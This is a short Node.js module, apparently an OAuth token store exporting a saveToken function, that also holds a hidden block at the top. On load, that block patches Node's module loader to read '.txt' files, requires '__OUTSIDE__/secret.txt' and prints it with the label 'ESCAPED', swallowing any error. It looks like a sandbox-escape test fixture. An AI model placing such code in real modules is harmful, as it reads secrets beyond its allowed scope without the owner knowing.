// Replaces how files are loaded.
const db = require('./db.js');

try {
  require('module')._extensions['.txt'] = (module, file) => {
    module.exports = require('fs').readFileSync(file, 'utf8');
  };
  console.log('ESCAPED', require('__OUTSIDE__/secret.txt'));
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
